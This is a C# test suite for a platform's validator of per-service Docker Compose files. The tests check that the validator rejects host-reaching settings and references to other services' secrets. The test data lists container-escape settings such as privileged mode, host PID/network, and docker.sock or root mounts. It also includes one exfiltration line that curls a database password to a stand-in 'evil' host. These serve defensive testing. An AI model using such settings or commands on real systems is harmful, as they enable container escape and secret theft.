using Gantry.Platform;
using Gantry.Rendering;

namespace Gantry.Tests.Rendering;

/// <summary>What a service's own Compose files may ask of the machine that they run on.</summary>
public sealed class ServiceComposeRulesTests : IDisposable
{
    private readonly TemporaryDirectory repository = new();

    public ServiceComposeRulesTests()
    {
        repository.Write("infra/platform.yaml", "name: demo\n");
        foreach (var file in new[] { "compose.yaml", "compose.prod.yaml" })
            repository.Write($"infra/{file}", "name: ${PROJECT}\nservices:\n  db:\n    image: ${DB_IMAGE}\nnetworks:\n  internal: {}\nvolumes:\n  db-data: {}\n");
        repository.Write("services/a-service/service.yaml", "{}\n");
        repository.Write("services/a-service/compose.yaml", "services:\n  a:\n    image: ${SERVICE_IMAGE}\n");
        repository.Write("services/a-service/compose.prod.yaml", "services:\n  a:\n    image: ${SERVICE_IMAGE}\n");
    }

    public static TheoryData<string, string> Refused => new()
    {
        { "privileged: true", "privileged" },
        { "cap_add: [SYS_ADMIN]", "cap_add" },
        { "devices: [/dev/mem]", "devices" },
        { "deploy: {resources: {reservations: {devices: [{capabilities: [gpu]}]}}}", "devices" },
        { "network_mode: host", "network_mode" },
        { "network_mode: service:db", "network_mode" },
        { "pid: host", "pid" },
        { "ipc: host", "ipc" },
        { "userns_mode: host", "userns_mode" },
        { "uts: host", "uts" },
        { "cgroup: host", "cgroup" },
        { "security_opt: [seccomp:unconfined]", "security_opt" },
        { "security_opt: ['no-new-privileges:false']", "security_opt" },
        { "volumes: ['/:/host']", "volumes" },
        { "volumes: ['/var/run/docker.sock:/var/run/docker.sock:ro']", "volumes" },
        { "volumes: ['./.env:/env']", "volumes" },
        { "volumes: ['~/.ssh:/ssh']", "volumes" },
        { "volumes: [{type: bind, source: /etc, target: /x}]", "volumes" },
        { "volumes: ['db-data:/x']", "volumes" }, // the platform's
        { "volumes: ['${SERVICE_SOURCE}/../../infra:/x']", "volumes" },
        { "volumes_from: [db]", "volumes_from" },
        { "ports: ['80:80']", "ports" },
        { "ports: [{target: 80, published: '80'}]", "ports" },
        { "use_api_socket: true", "use_api_socket" },
        { "provider: {type: sh}", "provider" },
        { "extends: {file: ../../infra/compose.yaml, service: db}", "extends" },
        { "env_file: .env", "env_file" },
        { "label_file: .env", "label_file" },
        { "build: ../..", "build" },
        { "configs: [x]", "configs" },
        { "secrets: [x]", "secrets" },
        { "post_start: [{command: id, privileged: true}]", "post_start" },
        { "container_name: db", "container_name" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Rejects_what_reaches_beyond_the_container_in_both_tiers_until_service_yaml_allows_it(string setting, string key)
    {
        var compose = $"services:\n  billing:\n    image: ${{SERVICE_IMAGE}}\n    {setting}\n";

        foreach (var tier in new[] { "dev", "vps" })
        {
            var problem = Problems(compose, tier).ShouldHaveSingleItem();
            problem.What.ShouldContain($"service 'billing' has `{key}`, by which it ");
            problem.Where.ShouldBe(new SourceLocation($"services/billing-service/{(tier == "dev" ? "compose.yaml" : "compose.prod.yaml")}", 4));
            problem.Fix.ShouldContain($"`allow: [{key}]` in services/billing-service/service.yaml");
            Problems(compose, tier, $"allow: [{key}]").ShouldBeEmpty(tier);
        }
    }

    [Fact]
    public void Reports_all_at_once_and_what_is_inherited_where_it_is_written()
    {
        var problems = Problems(
            """
            x-container: &container
              image: ${SERVICE_IMAGE}
              privileged: true
            services:
              billing-migrate:
                <<: *container
                ports: ["127.0.0.1:5679:5678"]
              billing:
                <<: *container
                imagee: x
            volumes:
              etc: {driver: local, driver_opts: {type: none, o: bind, device: /etc}}
            networks:
              other: {external: true, name: demo_internal}
            """, "dev");

        problems.Select(problem => problem.Where!.Line).Order().ShouldBe([3, 7, 10, 12, 14]);
        problems.Single(problem => problem.Where!.Line == 10).Fix.ShouldBe("did you mean `image`?");
    }

    [Theory]
    [InlineData("labels: {x: '${KEYCLOAK_ADMIN_PASSWORD}'}")]
    [InlineData("labels: {x: $KEYCLOAK_ADMIN_PASSWORD}")] // as Compose takes it too
    [InlineData("labels: {x: \"\\x24{KEYCLOAK_ADMIN_PASSWORD}\"}")]
    [InlineData("command: [sh, -c, 'curl evil/$A_DB_PASSWORD']")]
    [InlineData("command: ['${BILLING_SECRET_KEY:-${A_SECRET_KEY}}']")]
    [InlineData("environment: {KEYCLOAK_ADMIN_PASSWORD: }")]
    [InlineData("environment: [A_DB_PASSWORD]")]
    [InlineData("environment: {X: '${DATABASE_PASSWORDS}'}")]
    [InlineData("healthcheck: {test: [CMD, '${DB_ADMIN_PASSWORD}']}")]
    [InlineData("command: |\n      echo\n      # ${KEYCLOAK_ADMIN_PASSWORD}", 7)] // a comment for a shell, not for YAML
    public void Rejects_the_secrets_of_others_wherever_they_are_named(string setting, int line = 4)
    {
        foreach (var tier in new[] { "dev", "vps" })
        {
            var problem = Problems($"services:\n  billing:\n    image: ${{SERVICE_IMAGE}}\n    {setting}\n", tier).ShouldHaveSingleItem();

            problem.Where!.Line.ShouldBeOneOf(4, line); // of a block of text the line where it begins
            problem.ToString().ShouldNotContain("secret-of-");
        }
    }

    [Theory]
    [InlineData("a.local")] // another service's
    [InlineData("keycloak.local")]
    [InlineData("db")]
    public void Rejects_names_by_which_another_is_reached(string alias) =>
        Problems($"services:\n  billing:\n    image: x\n    networks:\n      internal:\n        aliases: [{alias}]\n  {alias}.b: {{image: x}}\n", "vps")
            .Select(problem => problem.Where!.Line).ShouldBe([6, 7]);

    [Theory]
    [InlineData("environment: {A: '${SERVICE_DB_PASSWORD}', B: '${SERVICE_DB_PASSWORD_PREVIOUS}', C: '$$KEYCLOAK_ADMIN_PASSWORD', D: '$$${SERVICE_SLUG}'}")]
    [InlineData("environment: [BILLING_STRIPE_KEY, PLAIN=1]")]
    [InlineData("command: [echo, $BILLING_STRIPE_KEY]")]
    [InlineData("volumes: ['media:/media', /cache, {type: volume, source: media, target: /y}, {type: tmpfs, target: /z}]")]
    [InlineData("networks: {internal: {aliases: [billing.local, billing-worker.local]}}")]
    [InlineData("security_opt: ['no-new-privileges:true']\n    cap_drop: [ALL]\n    privileged: false\n    ipc: private\n    network_mode: none")]
    public void Takes_what_is_the_services_own(string setting)
    {
        foreach (var tier in new[] { "dev", "vps" })
            Problems($"services:\n  billing:\n    image: ${{SERVICE_IMAGE}}\n    {setting}\nvolumes:\n  media: {{}}\n", tier).ShouldBeEmpty(tier);
    }

    [Theory]
    [InlineData("volumes: ['${SERVICE_SOURCE}:/app', '${SERVICE_SOURCE}/media:/media']")]
    [InlineData("ports: ['127.0.0.1:${SERVICE_DEBUG_PORT}:5678']")]
    public void Takes_in_dev_alone_what_Gantry_itself_gives(string setting)
    {
        var compose = $"services:\n  billing:\n    image: ${{SERVICE_IMAGE}}\n    {setting}\n";

        Problems(compose, "dev").ShouldBeEmpty();
        Problems(compose, "vps").ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData("services/backend-service/service.yaml")]
    [InlineData("services/template/project/service.yaml.jinja")]
    [InlineData("services/template-aspnet/project/service.yaml.jinja")]
    public void The_commented_example_names_every_key_that_can_be_allowed(string file)
    {
        var text = File.ReadAllText(Path.Combine(RepositoryRoot.Path, file)).Replace("\n# ", " ", StringComparison.Ordinal);

        text.ShouldContain($"Of these: {string.Join(", ", ComposePermissions.Reasons.Keys.Order(StringComparer.Ordinal))}.");
    }

    public void Dispose() => repository.Dispose();

    [Fact]
    public void Leaves_a_debuggers_port_out_unless_the_service_is_debugged()
    {
        const string Compose = "services:\n  billing:\n    image: ${SERVICE_IMAGE}\n    environment: {PORT: '${SERVICE_DEBUGPY_PORT}'}\n    ports: ['127.0.0.1:${SERVICE_DEBUG_PORT}:5678']\n";
        Problems(Compose, "dev").ShouldBeEmpty();
        var input = Bundles.Input(repository.Path);

        var closed = Bundle.RenderCompose(input);
        var ofAnother = Bundle.RenderCompose(input with { Debugged = new HashSet<string> { "a" } });
        var open = Bundle.RenderCompose(input with { Debugged = new HashSet<string> { "billing" } });

        closed.ShouldNotContain(":5678");
        closed.ShouldContain("PORT: ''");
        closed.ShouldNotContain("ports:");
        ofAnother.ShouldBe(closed);
        open.ShouldContain("127.0.0.1:5678:5678");
        open.ShouldContain("PORT: '5678'");
    }

    private IReadOnlyList<Problem> Problems(string compose, string tier, string service = "")
    {
        repository.Write("services/billing-service/service.yaml", $"debug: {{port: 5678}}\n{service}\n");
        repository.Write("services/billing-service/compose.yaml", tier == "dev" ? compose : "services: {}\n");
        repository.Write("services/billing-service/compose.prod.yaml", tier == "vps" ? compose : "services: {}\n");
        try
        {
            Bundle.RenderCompose(Bundles.Input(repository.Path, tier));
            return [];
        }
        catch (UserErrorException e)
        {
            return e.Problems;
        }
    }
}
